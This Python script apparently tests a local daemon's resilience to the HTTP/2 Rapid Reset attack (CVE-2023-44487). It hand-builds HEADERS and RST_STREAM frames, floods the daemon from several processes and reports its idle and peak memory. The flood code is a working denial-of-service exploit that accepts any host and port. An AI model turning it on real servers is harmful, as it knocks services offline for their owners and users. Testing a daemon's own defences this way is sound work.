"""A client that opens streams and resets them at once (CVE-2023-44487), and what the daemon's memory does meanwhile.

    rapid_reset.py CONNECTIONS SECONDS

Raw frames of HTTP/2: a HEADERS and a RST_STREAM of each stream, as fast as the daemon takes them; a connection that is
closed is opened anew. Printed are the bytes that the daemon holds before, and at most.
"""

import multiprocessing
import select
import socket
import struct
import sys
import tempfile
from pathlib import Path

from daemon import Daemon
from memory import status_bytes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = 8
POST, HTTP = b"\x83", b"\x86"  # of HPACK's static table
MOST_STREAMS = 500_000  # of a connection; their numbers have 31 bits
STREAMS_AT_ONCE = 500
TRAIN = b"/ballast.v1.TrainerService/Train"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def added(name: bytes, value: bytes) -> bytes:
    """A header that the daemon's table keeps, so that one byte names it from then on."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


FIRST = POST + HTTP + added(b":path", TRAIN) + added(b":authority", b"ballast")
FIRST += added(b"content-type", b"application/grpc") + added(b"te", b"trailers")
LATER = POST + HTTP + b"\xc1\xc0\xbf\xbe"


def opened_and_reset(stream: int) -> bytes:
    opened = frame(HEADERS, END_HEADERS, stream, FIRST if stream == 1 else LATER)
    return opened + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def flood_once(address: tuple[str, int]) -> None:
    """One connection's streams, until it is closed or their numbers are used up."""
    sent, unsent = 0, PREFACE + frame(SETTINGS, 0, 0, b"")
    with socket.create_connection(address, 10) as connection:
        connection.setblocking(False)
        while sent < MOST_STREAMS:
            if not unsent:
                streams = range(2 * sent + 1, 2 * (sent + STREAMS_AT_ONCE) + 1, 2)
                unsent = b"".join(opened_and_reset(stream) for stream in streams)
                sent += STREAMS_AT_ONCE
            readable, writable, _ = select.select([connection], [connection], [])
            if readable and not connection.recv(1 << 16):
                return
            if writable:
                unsent = unsent[connection.send(unsent) :]


def flood(address: tuple[str, int], ended, place: int) -> None:
    while True:
        try:
            flood_once(address)
        except OSError:
            pass  # closed or refused: the next shows whether it lasts
        ended[place] += 1


class Flood:
    """Keeps so many connections open while the `with` lasts; `ended` counts those that are over."""

    def __init__(self, server: str, connections: int):
        host, port = server.rsplit(":", 1)
        processes = multiprocessing.get_context("spawn")
        self.counts = processes.Array("q", connections, lock=False)  # one each, since a process may be killed
        arguments = ((host, int(port)), self.counts)
        self.flooding = [
            processes.Process(target=flood, args=(*arguments, place), daemon=True) for place in range(connections)
        ]

    @property
    def ended(self) -> int:
        return sum(self.counts)

    def __enter__(self) -> "Flood":
        for process in self.flooding:
            process.start()
        return self

    def __exit__(self, *_):
        for process in self.flooding:
            process.kill()
            process.join()


def main() -> None:
    connections, seconds = int(sys.argv[1]), float(sys.argv[2])
    with tempfile.TemporaryDirectory() as folder, Daemon(Path(folder)) as daemon:
        idle = status_bytes(daemon.process.pid, "VmRSS")
        with Flood(daemon.server, connections) as flooding:
            flooding.flooding[0].join(seconds)
        peak = status_bytes(daemon.process.pid, "VmHWM")
        print(f"idle {idle >> 20} MiB, peak {peak >> 20} MiB, {flooding.ended} connections were closed")


if __name__ == "__main__":
    main()
